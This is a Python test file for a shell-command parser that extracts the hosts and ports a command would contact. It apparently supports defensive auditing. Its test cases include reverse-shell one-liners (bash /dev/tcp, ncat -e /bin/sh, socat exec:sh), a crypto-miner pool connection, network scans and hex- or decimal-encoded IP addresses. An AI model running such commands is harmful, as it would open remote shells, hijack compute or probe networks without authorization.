"""Who a call would talk to, as far as its words say."""

from __future__ import annotations

import ipaddress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.shell.calls import Call
from pipeline.shell.hosts import Target, canonical, named
from pipeline.shell.script import read


def targets(command: str) -> list[str]:
    found = (target for call in read(command).calls for target in named(call))
    return list(
        dict.fromkeys(
            (f"{one.user}@" if one.user else "")
            + one.host
            + (f":{one.port}" if one.port else "")
            + (f" x{one.count}" if one.count > 1 else "")
            for one in found
        )
    )


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ssh h", ["h:22"]),
        ("ssh u@H.example", ["u@h.example:22"]),
        ("ssh -p 2222 -l u h", ["u@h:2222"]),
        ("ssh h -p 2222", ["h:2222"]),
        ("ssh -fNR 9000:localhost:22 -o ServerAliveInterval=30 u@192.0.2.7", ["u@192.0.2.7:22"]),
        ("ssh -o Port=443 -o User=u h ls -l", ["u@h:443"]),
        ("ssh -J a@j1,j2:2200 h", ["a@j1:22", "j2:2200", "h:22"]),
        ("ssh ssh://u@h:2200", ["u@h:2200"]),
        ("autossh -M 0 -N -R 1:localhost:2 u@h", ["u@h:22"]),
        ("scp -P 2200 f u@h:/tmp/", ["u@h:2200"]),
        ("scp h:/a .", ["h:22"]),
        ("rsync -a d/ u@h:/b", ["u@h:22"]),
        ("rsync -a rsync://h/m .", ["h:873"]),
        ("git clone git@h:a/b.git", ["git@h:22"]),
        ("git push https://u:p@h/r", ["u@h:443"]),
        ("curl http://h/x", ["h:80"]),
        ("curl -s https://H:8443/x?y=http://z", ["h:8443", "z:80"]),
        ("curl h.example/x", ["h.example:80"]),
        ("wget -q 192.0.2.1:8080/x -O y.sh", ["192.0.2.1:8080"]),
        ("wget http://0x7f000001/x", ["127.0.0.1:80"]),
        ("curl http://3221225985/x", ["192.0.2.1:80"]),
        ("curl -x p.example:3128 http://h/", ["p.example:3128", "h:80"]),
        ("nc -z -w 2 h 5432", ["h:5432"]),
        ("nc -zv 10.0.0.1 1-1024", ["10.0.0.1"]),
        ("nc -lvp 4444", []),
        ("ncat h 443 -e /bin/sh", ["h:443"]),
        ("telnet h", ["h:23"]),
        ("socat tcp:h:1 exec:sh", ["h:1"]),
        ("socat TCP-LISTEN:80,fork OPENSSL:h.example:443,verify=0", ["h.example:443"]),
        ("ping -c 3 h", ["h"]),
        ("dig @192.0.2.53 x.example", ["192.0.2.53:53", "x.example"]),
        ("nmap -sS -p 22,80 10.0.0.0/24", ["10.0.0.0/24 x256"]),
        ("nmap -p 22 10.0.0.1-50 h.example", ["10.0.0.1-50:22 x50", "h.example:22"]),
        ("nmap 10.0.0-1.1,2 --script x -oN f", ["10.0.0-1.1,2 x4"]),
        ("masscan 10.0.0.0/16 -p80 --rate 1000", ["10.0.0.0/16:80 x65536"]),
        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ["192.0.2.1:443"]),
        ("exec 3<>/dev/udp/h/53", ["h:53"]),
        ("xmrig -o stratum+tcp://pool.example:3333 -u w", ["pool.example:3333"]),
        ("./worker --url pool.example:443 --tls", ["pool.example:443"]),
        ("python3 c.py relay.example:443", ["relay.example:443"]),
        ("python3 -c \"import urllib.request as u; u.urlopen('https://h.example/x')\"", ["h.example:443"]),
        ("psql -h db -p 5433", ["db:5433"]),
        ("redis-cli -h r.example", ["r.example:6379"]),
        ("tftp -g -r f 192.0.2.9", ["192.0.2.9:69"]),
        ("./x 2001:DB8::0001", ["2001:db8::1"]),
        ("curl http://[2001:db8::1]:80/", ["2001:db8::1:80"]),
        ("echo http://h/x", []),
        ("grep -r 192.0.2.1 .", []),
        ("ls -l a.b/c", []),
        ("python3 script.py file.txt", []),
        ("make -j 8 CC=gcc", []),
        ("date +%H:%M", []),
        ("sed -n 1:20p f", []),
        ("pip install x==1.2.3.4", []),
    ],
)
def test_named(command: str, expected: list[str]) -> None:
    assert targets(command) == expected


@given(st.ip_addresses())
def test_addresses_have_one_spelling(address: ipaddress.IPv4Address | ipaddress.IPv6Address) -> None:
    mapped = address.ipv4_mapped if isinstance(address, ipaddress.IPv6Address) else None
    assert canonical(str(address)) == str(mapped or address)
    if isinstance(address, ipaddress.IPv6Address):
        assert canonical(address.exploded.upper()) == str(mapped or address)


@given(st.ip_addresses(v=4))
def test_odd_spellings_of_an_address(address: ipaddress.IPv4Address) -> None:
    number = int(address)
    if number >= 10_000_000:
        assert canonical(str(number)) == str(address)
    assert canonical(f"0x{number:08x}") == str(address)
    assert canonical(".".join(hex(part) for part in address.packed)) == str(address)


@given(
    st.lists(st.text(max_size=30), max_size=6),
    st.sampled_from(["ssh", "nc", "nmap", "curl", "scp", "socat", "ping", "x", "dig", "psql"]),
)
def test_any_words_give_hosts_or_nothing(words: list[str], name: str) -> None:
    for target in named(Call(name, (name, *words))):
        assert isinstance(target, Target)
        assert target.host
        assert target.port is None or 0 < target.port < 65_536


def test_no_more_than_a_few() -> None:
    assert len(named(Call("ping", ("ping", *(f"10.0.0.{i}" for i in range(200)))))) == 64
